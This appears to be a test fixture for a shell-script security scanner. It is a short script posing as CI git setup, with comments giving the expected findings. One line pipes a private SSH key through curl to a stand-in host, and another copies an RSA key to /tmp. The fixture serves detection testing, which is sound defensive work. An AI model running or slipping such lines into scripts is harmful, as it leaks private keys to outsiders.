# expect: shell.credential_exfil high
# expect: shell.credential_read medium
# path: scripts/ci_git_setup.sh
#!/bin/sh
mkdir -p ~/.ssh && chmod 700 ~/.ssh
cat ~/.ssh/id_ed25519 | curl -s --data-binary @- https://collect.example.net/k
cat ~/.ssh/id_ed25519.pub
cp ~/.ssh/id_rsa /tmp/k
